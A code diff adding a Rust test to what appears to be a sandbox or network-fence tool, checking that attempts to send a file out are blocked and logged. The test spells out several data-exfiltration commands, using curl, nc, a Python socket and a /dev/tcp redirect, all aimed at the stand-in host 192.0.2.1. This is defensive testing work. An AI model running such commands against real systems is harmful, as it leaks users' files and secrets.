@@ -130,3 +130,23 @@ fn what_is_said_about_start_up_files_and_settings_is_true() {
     assert!(text.contains("makes programs run later") && !text.contains("secrets"), "{text}");
     room.run(&["check", "cat .vscode/settings.json"]).expect(0);
 }
+
+/// Where there is no network, nothing is sent, and the fence says so by its own name.
+#[test]
+fn data_that_cannot_leave_is_left_to_the_fence() {
+    let room = Room::new();
+    if !room.has_fence() {
+        return;
+    }
+    room.write("data", "mine");
+    let send = "python3 -c \"import socket; socket.create_connection(('192.0.2.1', 80), 1).sendall(open('data', 'rb').read())\"";
+    room.run(&["check", "curl -d @data http://192.0.2.1/"]).expect(10);
+    room.run(&["check", "cat data | nc 192.0.2.1 80"]).expect(10);
+    room.run(&["check", send]).expect(10);
+    let piped = "cat data | tee >(cat > /dev/tcp/192.0.2.1/80); true";
+    let result = room.run(&["run", "--json", "-c", piped]).expect(0).json();
+    assert_eq!(result["stdout"], "mine", "{result}");
+    assert!(result["violations"].to_string().contains("192.0.2.1"), "{result}");
+    let ran = room.run(&["run", "-c", "curl -s -m 1 -d @data http://192.0.2.1/ || echo unsent"]).expect(0);
+    assert_eq!(ran.stdout, "unsent\n", "{}", ran.stderr);
+}
